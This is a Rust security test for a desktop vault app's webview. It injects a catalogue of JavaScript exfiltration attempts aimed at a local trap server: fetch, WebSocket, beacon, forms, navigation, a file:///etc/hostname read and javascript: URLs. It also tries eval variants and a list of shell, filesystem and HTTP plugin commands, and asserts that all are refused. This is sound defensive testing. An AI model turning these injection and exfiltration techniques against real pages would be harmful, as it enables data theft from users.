//! The page as an attacker's foothold: whatever was smuggled into it, it reaches nothing.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::Value;

use crate::desk::Desk;

/// A server of the attacker's, which counts who came.
struct Trap {
    address: String,
    visits: Arc<AtomicUsize>,
}

impl Trap {
    fn set() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let visits = Arc::new(AtomicUsize::new(0));
        let counting = Arc::clone(&visits);
        std::thread::spawn(move || {
            for visitor in listener.incoming() {
                counting.fetch_add(1, Ordering::SeqCst);
                drop(visitor);
            }
        });
        Self { address, visits }
    }

    fn visits(&self) -> usize {
        self.visits.load(Ordering::SeqCst)
    }
}

/// What an injected script would try, each in a page of ours. Every one ends with a word about how it went;
/// `HOST` is the trap.
const WAYS_OUT: &[(&str, &str)] = &[
    ("fetch", "fetch('http://HOST/').then(() => done('out'), () => done('refused'))"),
    ("fetch without reading", "fetch('http://HOST/', { mode: 'no-cors' }).then(() => done('out'), () => done('refused'))"),
    (
        "XMLHttpRequest",
        "const ask = new XMLHttpRequest(); ask.onload = () => done('out'); ask.onerror = () => done('refused');
         try { ask.open('GET', 'http://HOST/'); ask.send() } catch { done('refused') }",
    ),
    (
        "WebSocket",
        "try { const s = new WebSocket('ws://HOST/'); s.onopen = () => done('out'); s.onerror = () => done('refused') }
         catch { done('refused') }",
    ),
    (
        "EventSource",
        "try { const s = new EventSource('http://HOST/'); s.onopen = () => done('out'); s.onerror = () => { s.close(); done('refused') } }
         catch { done('refused') }",
    ),
    ("beacon", "navigator.sendBeacon?.('http://HOST/', 'x'); setTimeout(() => done('refused'), 400)"),
    (
        "image",
        "const i = new Image(); i.onload = () => done('out'); i.onerror = () => done('refused'); i.src = 'http://HOST/i.png'",
    ),
    (
        "stylesheet",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://HOST/s.css';
         l.onload = () => done('out'); l.onerror = () => done('refused'); document.head.append(l)",
    ),
    (
        "font",
        "new FontFace('Stolen', 'url(http://HOST/f.woff2)').load().then(() => done('out'), () => done('refused'))",
    ),
    (
        "script from elsewhere",
        "const s = document.createElement('script'); s.src = 'http://HOST/s.js';
         s.onload = () => done('out'); s.onerror = () => done('refused'); document.head.append(s)",
    ),
    ("module from elsewhere", "import('http://HOST/m.js').then(() => done('out'), () => done('refused'))"),
    (
        "frame",
        "const f = document.createElement('iframe'); f.src = 'http://HOST/'; document.body.append(f);
         setTimeout(() => { f.remove(); done('refused') }, 400)",
    ),
    (
        "form",
        "const f = document.createElement('form'); f.method = 'post'; f.action = 'http://HOST/'; document.body.append(f);
         f.submit(); setTimeout(() => { f.remove(); done('refused') }, 400)",
    ),
    ("prefetch", "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://HOST/p'; document.head.append(l); setTimeout(() => done('refused'), 400)"),
    ("navigation", "location.href = 'http://HOST/'; setTimeout(() => done('refused'), 600)"),
    ("replacement", "location.replace('http://HOST/'); setTimeout(() => done('refused'), 600)"),
    ("refresh", "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://HOST/'; document.head.append(m); setTimeout(() => done('refused'), 900)"),
    ("new window", "const w = window.open('http://HOST/'); setTimeout(() => done(w ? 'out' : 'refused'), 600)"),
    (
        "link to a new window",
        "const a = document.createElement('a'); a.href = 'http://HOST/'; a.target = '_blank'; document.body.append(a);
         a.click(); setTimeout(() => { a.remove(); done('refused') }, 600)",
    ),
    ("a file of this computer", "fetch('file:///etc/hostname').then(() => done('out'), () => done('refused'))"),
    (
        "a page of this computer",
        "location.href = 'file:///etc/hostname'; setTimeout(() => done('refused'), 600)",
    ),
    ("a page of its own making", "location.href = 'data:text/html,hello'; setTimeout(() => done('refused'), 600)"),
    (
        "inline script",
        "const s = document.createElement('script'); s.textContent = 'window.smuggled = true'; document.body.append(s);
         setTimeout(() => done(window.smuggled ? 'out' : 'refused'), 100)",
    ),
    (
        "handler in an attribute",
        "const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=\"window.handled = true\">';
         document.body.append(d); setTimeout(() => { d.remove(); done(window.handled ? 'out' : 'refused') }, 300)",
    ),
    (
        "address that is a script",
        "const a = document.createElement('a'); a.href = 'javascript:window.addressed = true'; document.body.append(a);
         a.click(); setTimeout(() => { a.remove(); done(window.addressed ? 'out' : 'refused') }, 200)",
    ),
    ("worker", "try { new Worker('data:text/javascript,0').onerror = () => done('refused'); setTimeout(() => done('out'), 800) } catch { done('refused') }"),
];

/// The ways that no page policy covers: the host refuses where they lead, or gives them no network.
const BY_THE_HOST: &[&str] = &[
    "prefetch",
    "navigation",
    "replacement",
    "refresh",
    "new window",
    "link to a new window",
    "a page of this computer",
    "a page of its own making",
];

/// Commands of the framework and of plugins nobody gave the window.
const FOREIGN_COMMANDS: &[&str] = &[
    "plugin:fs|read_text_file",
    "plugin:fs|write_text_file",
    "plugin:shell|execute",
    "plugin:shell|open",
    "plugin:opener|open_url",
    "plugin:http|fetch",
    "plugin:dialog|open",
    "plugin:process|exit",
    "plugin:updater|check",
    "plugin:clipboard-manager|read_text",
    "plugin:app|version",
    "plugin:path|resolve_directory",
    "plugin:window|create",
    "plugin:window|close",
    "plugin:window|set_title",
    "plugin:webview|create_webview_window",
    "plugin:webview|internal_toggle_devtools",
    "plugin:event|emit",
    "plugin:event|emit_to",
    "plugin:menu|new",
    "plugin:tray|new",
    "plugin:image|from_path",
    "plugin:resources|close",
    "read_vault",
    "__proto__",
];

#[tokio::test(flavor = "multi_thread")]
async fn whatever_is_in_the_page_reaches_nothing() {
    let desk = Desk::open("hardening").await;
    every_command_is_refused_before_unlocking(&desk).await;
    desk.click("first-run-make").await;
    desk.type_into("field-officer", "Vera Maslar").await;
    desk.type_into("field-passphrase", "four quiet words here").await;
    desk.type_into("field-passphrase_again", "four quiet words here").await;
    desk.click("make-vault").await;
    desk.click("recovery-key-kept").await;
    desk.see("screen-home").await;

    nothing_leaves_the_page(&desk).await;
    text_is_no_code(&desk).await;
    foreign_commands_are_refused(&desk).await;

    desk.see("screen-home").await;
    desk.photograph("1-unmoved").await;
    desk.click("lock").await;
    desk.see("screen-unlock").await;
    every_command_is_refused_before_unlocking(&desk).await;
    desk.close().await;
}

async fn nothing_leaves_the_page(desk: &Desk) {
    let trap = Trap::set();
    // The trap works: what comes there is counted.
    drop(std::net::TcpStream::connect(&trap.address).unwrap());
    while trap.visits() == 0 {
        tokio::task::yield_now().await;
    }
    for (way, script) in WAYS_OUT {
        let script = script.replace("HOST", &trap.address);
        let watched = "const answer = arguments[0];
            let stopped = false;
            document.addEventListener('securitypolicyviolation', () => (stopped = true), { once: true });
            const done = (word) => setTimeout(() => answer(stopped ? word + ' by policy' : word), 50);";
        let went = desk.ask_later(&format!("{watched} {script}")).await;
        let expected = if BY_THE_HOST.contains(way) { "refused" } else { "refused by policy" };
        assert_eq!(went, Value::from(expected), "{way}");
        assert_eq!(trap.visits(), 1, "{way} reached the outside");
        assert!(desk.has("screen-home").await, "{way} led away from our page");
    }
    assert_eq!(desk.windows().await, 1, "a second window was opened");
}

async fn text_is_no_code(desk: &Desk) {
    for text in ["eval('1')", "new Function('return 1')()", "Reflect.construct(Function, ['return 1'])()"] {
        let script = format!("try {{ return {text} }} catch (refusal) {{ return refusal.name }}");
        assert_eq!(desk.ask(&script).await, Value::from("EvalError"), "{text}");
    }
    desk.ask("setTimeout('window.timed = true', 0); return null").await;
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    assert_eq!(desk.ask("return window.timed === undefined").await, Value::from(true), "a timer's text ran");
}

async fn foreign_commands_are_refused(desk: &Desk) {
    for command in FOREIGN_COMMANDS {
        let answered = desk.command(command).await;
        assert!(answered.starts_with("refused"), "{command}: {answered}");
    }
    assert_eq!(desk.windows().await, 1);
}

/// Whatever they are given: the door is closed before any argument is read.
async fn every_command_is_refused_before_unlocking(desk: &Desk) {
    let mut refused = 0;
    for command in csp_desk::wire::COMMANDS {
        if csp_desk::wire::while_locked(command) {
            continue;
        }
        assert_eq!(desk.command(command).await, "refused: locked", "{command}");
        refused += 1;
    }
    assert!(refused > 15, "{refused} commands need an open vault");
}
